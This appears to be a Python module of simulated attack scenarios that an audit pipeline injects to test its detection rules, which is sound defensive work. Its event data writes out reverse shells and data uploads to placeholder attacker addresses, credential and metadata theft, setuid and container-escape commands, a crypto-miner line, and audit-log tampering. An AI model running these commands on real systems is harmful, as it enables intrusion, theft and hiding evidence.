"""Attack scenarios the fleet simulator can inject (``auditpipe simulate --scenario NAME``).

Each scenario is the short sequence of events an attack leaves in one sandbox's audit
trail, with realistic commands, paths and addresses (documentation ranges 198.51.100.0/24
and 203.0.113.0/24). Every event of a scenario carries ``attributes["sim.scenario"]``:
the ground truth for tests of the detection rules, which must not look at it.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

Step = tuple[int, dict[str, Any]]
"""(milliseconds after the scenario starts, event fields)."""

C2 = "198.51.100.7"
ATTACKER = "203.0.113.9"


def _proc(process: str, cmdline: str, uid: int = 1000, **extra: Any) -> dict[str, Any]:
    return {"process": process, "cmdline": cmdline, "uid": uid, **extra}


def reverse_shell_event(event_id: str, tenant: str, sandbox_id: str, ts: int) -> dict[str, Any]:
    """One whole event the default pack alerts on at once (AP-PROC-REVSHELL): a probe
    of alert latency (benchmarks/alert_latency.py, tests/integration/test_fairness.py).
    Each from a sandbox of its own, so none is suppressed as a repeat."""
    return {
        "event_id": event_id,
        "ts": ts,
        "tenant": tenant,
        "sandbox_id": sandbox_id,
        "seq": 1,
        "category": "process",
        "action": "exec",
        "level": "notice",
        "outcome": "success",
        "actor": {
            "user": "agent",
            "uid": 1000,
            "pid": 7,
            "ppid": 1,
            "process": "bash",
            "cmdline": f"bash -c 'bash -i >& /dev/tcp/{C2}/4444 0>&1'",
        },
        "object": "/usr/bin/bash",
        "bytes": None,
        "attributes": {},
        "prev_hash": None,
        "hash": None,
    }


def reverse_shell() -> list[Step]:
    shell = f"bash -c 'bash -i >& /dev/tcp/{C2}/4444 0>&1'"
    return [
        (
            0,
            {
                "category": "process",
                "action": "exec",
                "object": "/usr/bin/bash",
                "actor": _proc("bash", shell),
                "level": "notice",
            },
        ),
        (
            40,
            {
                "category": "network",
                "action": "connect",
                "object": f"{C2}:4444",
                "actor": _proc("bash", shell),
                "attributes": {"direction": "outbound"},
            },
        ),
        (
            5000,
            {
                "category": "process",
                "action": "exec",
                "object": "/usr/bin/nc",
                "actor": _proc("nc", f"nc -e /bin/sh {ATTACKER} 9001"),
            },
        ),
        (
            5030,
            {
                "category": "network",
                "action": "connect",
                "object": f"{ATTACKER}:9001",
                "actor": _proc("nc", f"nc -e /bin/sh {ATTACKER} 9001"),
            },
        ),
    ]


def credential_read() -> list[Step]:
    return [
        (
            0,
            {
                "category": "file",
                "action": "read",
                "object": "/etc/shadow",
                "outcome": "denied",
                "level": "warning",
                "actor": _proc("cat", "cat /etc/shadow"),
            },
        ),
        (
            800,
            {
                "category": "file",
                "action": "read",
                "object": "/home/runner/.ssh/id_rsa",
                "actor": _proc("cat", "cat /home/runner/.ssh/id_rsa"),
                "bytes": 2602,
            },
        ),
        (
            1500,
            {
                "category": "file",
                "action": "read",
                "object": "/home/runner/.aws/credentials",
                "actor": _proc(
                    "python3", "python3 -c 'print(open(\"~/.aws/credentials\").read())'"
                ),
                "bytes": 116,
            },
        ),
        (
            2600,
            {
                "category": "network",
                "action": "connect",
                "object": "169.254.169.254:80",
                "actor": _proc(
                    "curl",
                    "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
                ),
            },
        ),
        (
            3000,
            {
                "category": "network",
                "action": "connect",
                "object": f"{C2}:443",
                "actor": _proc("curl", f"curl -s -d @/tmp/k https://{C2}/u"),
            },
        ),
    ]


def privilege_escalation() -> list[Step]:
    return [
        (
            0,
            {
                "category": "process",
                "action": "exec",
                "object": "/usr/bin/sudo",
                "outcome": "failure",
                "level": "warning",
                "actor": _proc("sudo", "sudo -n true"),
            },
        ),
        (
            1200,
            {
                "category": "file",
                "action": "write",
                "object": "/tmp/rootsh",
                "actor": _proc("cp", "cp /bin/bash /tmp/rootsh", uid=0),
                "bytes": 1396520,
            },
        ),
        (
            1500,
            {
                "category": "permission",
                "action": "chmod",
                "object": "/tmp/rootsh",
                "actor": _proc("chmod", "chmod u+s /tmp/rootsh", uid=0),
                "attributes": {"mode": "4755"},
            },
        ),
        (
            2100,
            {
                "category": "permission",
                "action": "setuid",
                "object": "uid=0",
                "actor": _proc("rootsh", "/tmp/rootsh -p"),
                "attributes": {"new_uid": "0"},
            },
        ),
        (
            2600,
            {
                "category": "permission",
                "action": "capset",
                "object": "cap_sys_admin",
                "actor": _proc("capsh", "capsh --caps=cap_sys_admin+eip --", uid=0),
            },
        ),
    ]


def container_escape() -> list[Step]:
    return [
        (
            0,
            {
                "category": "file",
                "action": "read",
                "object": "/var/run/docker.sock",
                "actor": _proc(
                    "curl",
                    "curl --unix-socket /var/run/docker.sock http://localhost/containers/json",
                    uid=0,
                ),
            },
        ),
        (
            900,
            {
                "category": "config",
                "action": "mount",
                "object": "/host",
                "actor": _proc("mount", "mount /dev/vda1 /host", uid=0),
                "attributes": {"source": "/dev/vda1"},
            },
        ),
        (
            1800,
            {
                "category": "process",
                "action": "exec",
                "object": "/usr/bin/nsenter",
                "actor": _proc(
                    "nsenter", "nsenter --target 1 --mount --uts --ipc --net --pid -- bash", uid=0
                ),
            },
        ),
        (
            2500,
            {
                "category": "file",
                "action": "read",
                "object": "/proc/1/root/etc/shadow",
                "actor": _proc("cat", "cat /proc/1/root/etc/shadow", uid=0),
            },
        ),
    ]


def data_exfiltration() -> list[Step]:
    steps: list[Step] = [
        (
            0,
            {
                "category": "process",
                "action": "exec",
                "object": "/usr/bin/tar",
                "actor": _proc("tar", "tar czf /tmp/w.tgz /workspace"),
            },
        ),
    ]
    for part in range(6):  # 6 x 100 MB within 3 minutes
        steps.append(
            (
                30_000 * (part + 1),
                {
                    "category": "data_transfer",
                    "action": "upload",
                    "object": f"https://{C2}/drop/w.tgz.part{part}",
                    "bytes": 100 * 1024 * 1024,
                    "actor": _proc("curl", f"curl -T /tmp/w.tgz.part{part} https://{C2}/drop/"),
                },
            )
        )
    return steps


def crypto_mining() -> list[Step]:
    miner = "xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ --donate-level 1"
    steps: list[Step] = [
        (
            0,
            {
                "category": "process",
                "action": "exec",
                "object": "/tmp/.x/xmrig",
                "actor": _proc("xmrig", miner),
            },
        ),
        (
            500,
            {
                "category": "network",
                "action": "connect",
                "object": "pool.minexmr.com:4444",
                "actor": _proc("xmrig", miner),
                "attributes": {"protocol": "stratum+tcp"},
            },
        ),
    ]
    for sample in range(12):  # CPU at 95-99 % for 6 minutes, sampled every 30 s
        steps.append(
            (
                1000 + 30_000 * sample,
                {
                    "category": "resource",
                    "action": "sample",
                    "object": "cgroup",
                    "level": "debug",
                    "actor": _proc("collector", "auditpipe-collector"),
                    "attributes": {"cpu_pct": f"{95 + sample % 5}.0", "mem_mb": "2400"},
                },
            )
        )
    return steps


def brute_force() -> list[Step]:
    steps: list[Step] = [
        (
            4000 * n,
            {
                "category": "auth",
                "action": "login",
                "object": "sshd",
                "outcome": "failure",
                "level": "notice",
                "actor": _proc("sshd", "sshd: admin [priv]", uid=0, user="admin"),
                "attributes": {"method": "password", "source_ip": ATTACKER},
            },
        )
        for n in range(8)
    ]
    steps.append(
        (
            33_000,
            {
                "category": "auth",
                "action": "login",
                "object": "sshd",
                "actor": _proc("sshd", "sshd: admin [priv]", uid=0, user="admin"),
                "attributes": {"method": "password", "source_ip": ATTACKER},
            },
        )
    )
    return steps


def audit_tampering() -> list[Step]:
    return [
        (
            0,
            {
                "category": "process",
                "action": "exec",
                "object": "/usr/sbin/auditctl",
                "actor": _proc("auditctl", "auditctl -D", uid=0),
            },
        ),
        (
            700,
            {
                "category": "config",
                "action": "write",
                "object": "/etc/audit/auditd.conf",
                "actor": _proc(
                    "sed", "sed -i s/^max_log_file=.*/max_log_file=0/ /etc/audit/auditd.conf", uid=0
                ),
            },
        ),
        (
            1500,
            {
                "category": "process",
                "action": "exec",
                "object": "/usr/bin/systemctl",
                "actor": _proc("systemctl", "systemctl stop auditd", uid=0),
            },
        ),
        (
            2400,
            {
                "category": "file",
                "action": "delete",
                "object": "/root/.bash_history",
                "actor": _proc("rm", "rm -f /root/.bash_history", uid=0),
            },
        ),
        (
            2600,
            {
                "category": "process",
                "action": "exec",
                "object": "/usr/bin/bash",
                "actor": _proc("bash", "bash -c 'history -c; unset HISTFILE'", uid=0),
            },
        ),
    ]


SCENARIOS: dict[str, Callable[[], list[Step]]] = {
    "reverse-shell": reverse_shell,
    "credential-read": credential_read,
    "privilege-escalation": privilege_escalation,
    "container-escape": container_escape,
    "data-exfiltration": data_exfiltration,
    "crypto-mining": crypto_mining,
    "brute-force": brute_force,
    "audit-tampering": audit_tampering,
}
